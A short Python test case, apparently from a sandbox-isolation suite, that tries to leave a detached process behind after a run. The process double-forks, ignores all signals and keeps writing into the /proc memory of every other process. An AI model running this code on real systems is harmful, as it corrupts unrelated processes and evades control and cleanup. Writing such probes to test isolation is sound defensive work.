# family: exit, signals, threads
# tries: to leave a process behind that reads, writes and signals whatever comes later

# %% start
import os
import signal

if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        for number in range(1, 32):
            try:
                signal.signal(number, signal.SIG_IGN)
            except (OSError, ValueError):
                pass
        while True:
            for process in (p for p in os.listdir("/proc") if p.isdigit() and int(p) != os.getpid()):
                try:
                    with open(f"/proc/{process}/mem", "r+b", 0) as memory:
                        memory.seek(0x400000)
                        memory.write(b"x")
                except OSError:
                    pass
            os.sched_yield()
    os._exit(0)
